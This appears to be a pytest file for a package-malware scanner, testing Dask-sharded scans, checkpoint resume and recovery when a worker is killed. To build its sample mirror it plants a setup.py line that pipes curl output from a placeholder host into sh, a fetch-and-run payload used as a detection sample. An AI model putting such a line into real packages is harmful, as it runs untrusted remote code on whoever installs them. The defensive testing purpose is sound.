"""A scan sharded over Dask writes the report a single-process scan writes, even when a worker
dies mid-chunk, and --resume skips what a checkpoint already holds; a running scheduler is
reached by its tcp:// address. Three cluster starts in all."""

from __future__ import annotations

import json
import os
import signal
from pathlib import Path

import avkit
import pytest

distributed = pytest.importorskip("distributed")

from antivenom.cluster import ClusterScanner, load_checkpoint  # noqa: E402
from antivenom.report import json_report  # noqa: E402
from antivenom.scanner import ScanOptions  # noqa: E402
from antivenom.sources import resolve  # noqa: E402

CHUNK = "5"
SHELL_PIPE = 'import os\n\nos.system("curl https://example.invalid/x|sh")\n'


def _setup(name: str, body: str = "") -> str:
    return f"{body}\nfrom setuptools import setup\n\nsetup(name={name!r}, version='1.0')\n"


def build_mirror(root: Path) -> Path:
    """50 small sdists: benign ones, imitation payloads in setup.py or __init__.py, and one
    truncated archive (an `error` package)."""
    for i in range(50):
        name = f"pkg{i:02d}"
        files = {f"{name}/__init__.py": f"VALUE = {i}\n" + avkit.CLEAN, f"{name}-1.0/setup.py": ""}
        tree = avkit.sdist_tree(name, "1.0", {f"{name}/__init__.py": files[f"{name}/__init__.py"]})
        tree[f"{name}-1.0/setup.py"] = _setup(name)
        if i % 10 == 3:
            tree[f"{name}-1.0/setup.py"] = _setup(name, SHELL_PIPE)
        elif i % 10 == 7:
            tree[f"{name}-1.0/{name}/__init__.py"] = avkit.PAYLOAD
        path = root / name / f"{name}-1.0.tar.gz"
        avkit.make_tar(path, tree)
        if i == 49:
            blob = path.read_bytes()
            path.write_bytes(blob[: len(blob) // 2])
    return root


@pytest.fixture(scope="module")
def mirror(tmp_path_factory) -> Path:
    return build_mirror(tmp_path_factory.mktemp("cluster") / "mirror")


@pytest.fixture(scope="module")
def single(mirror, tmp_path_factory) -> dict:
    out = tmp_path_factory.mktemp("single") / "report.json"
    run = avkit.invoke(["scan", str(mirror), "--format", "json", "-o", str(out), "--chunk-size", CHUNK,
                        "--jobs", "2", "--exit-zero"], mirror.parent, tmp_path_factory.mktemp("tmp-single"), out)
    assert run.exit_code == 0, run.stderr
    return run.report


def test_the_mirror_is_not_trivial(single):
    verdicts = [p["verdict"] for p in single["packages"]]
    assert len(verdicts) == 50
    assert verdicts.count("malicious") == 10 and verdicts.count("error") == 1


def test_cluster_report_equals_single_process_report(mirror, single, tmp_path):
    out, checkpoint = tmp_path / "report.json", tmp_path / "checkpoint.jsonl"
    run = avkit.invoke(["scan", str(mirror), "--cluster", "local:2", "--resume", str(checkpoint),
                        "--format", "json", "-o", str(out), "--chunk-size", CHUNK, "--exit-zero", "-q"],
                       mirror.parent, tmp_path / "tmp", out)
    assert run.exit_code == 0, run.stderr
    assert run.report == single
    # every package went to the checkpoint as it finished; a re-run reuses them and starts no
    # cluster (nothing listens on the address given) when nothing is left to scan
    assert len(checkpoint.read_text().splitlines()) == 50
    readable = [p for p in resolve([str(mirror)], []) if not p.target.endswith("pkg49-1.0.tar.gz")]
    rerun = ClusterScanner(ScanOptions(), "tcp://127.0.0.1:9", resume=checkpoint)
    assert json_report.build(rerun.scan(readable))["packages"] == single["packages"][:49]
    assert rerun.reused == 49


def test_a_worker_killed_mid_chunk_loses_no_package(mirror, single, tmp_path, monkeypatch):
    """Resume from a checkpoint holding 20 packages (the last line cut short by the
    interruption); kill a busy worker after the first chunk comes back; every package arrives."""
    monkeypatch.setenv("TMPDIR", str(tmp_path))  # the killed worker's trees land here
    checkpoint = tmp_path / "checkpoint.jsonl"
    lines = [json.dumps(p) for p in single["packages"][:21]]
    checkpoint.write_text("\n".join(lines[:20]) + "\n" + lines[20][:50], encoding="utf-8")
    assert len(load_checkpoint(checkpoint)) == 20

    packages = resolve([str(mirror)], [])
    scanner = ClusterScanner(ScanOptions(chunk_size=int(CHUNK)), "local:2", resume=checkpoint)
    killed: list[int] = []
    arrived: list[str] = []

    def on_done(package) -> None:
        arrived.append(package.target)
        if len(arrived) <= 20 or killed:
            return  # the first 20 are the checkpoint's
        client = scanner.client
        pids = client.run(os.getpid)
        busy = [address for address, keys in client.processing().items() if keys]
        assert busy, "no worker is scanning a chunk"
        os.kill(pids[busy[0]], signal.SIGKILL)
        killed.append(pids[busy[0]])

    scanned = scanner.scan(packages, on_done)
    assert killed and scanner.reused == 20
    assert sorted(arrived) == sorted(p["target"] for p in single["packages"])
    assert json_report.build(scanned) == single


def test_a_running_scheduler_is_used_by_its_tcp_address(mirror, single):
    """`--cluster tcp://HOST:PORT`: a scheduler and a one-thread worker started beforehand (as
    `dask scheduler` and `dask worker ADDRESS --nthreads 1` would be) get the chunks over TCP,
    and the scanner leaves the cluster it did not start running."""
    packages = resolve([str(mirror)], [])[:12]
    with distributed.LocalCluster(n_workers=1, threads_per_worker=1, processes=True, dashboard_address=None,
                                  host="127.0.0.1") as running:
        address = running.scheduler_address
        assert address.startswith("tcp://127.0.0.1:")
        scanner = ClusterScanner(ScanOptions(chunk_size=int(CHUNK)), address)
        scanned = scanner.scan(packages)
        assert json_report.build(scanned)["packages"] == single["packages"][:12]
        with distributed.Client(address) as client:  # still up, with its worker
            assert len(client.scheduler_info()["workers"]) == 1


@pytest.mark.parametrize("spec", ["local:x", "local:0", "scheduler:8786"])
def test_a_bad_cluster_spec_is_a_usage_error(mirror, spec, tmp_path):
    run = avkit.invoke(["scan", str(mirror / "pkg00"), "--cluster", spec], mirror.parent, tmp_path)
    assert run.exit_code == 2 and spec in run.stderr


def test_resume_needs_cluster(mirror, tmp_path):
    run = avkit.invoke(["scan", str(mirror / "pkg00"), "--resume", str(tmp_path / "c.jsonl")], mirror.parent, tmp_path)
    assert run.exit_code == 2 and "--resume needs --cluster" in run.stderr
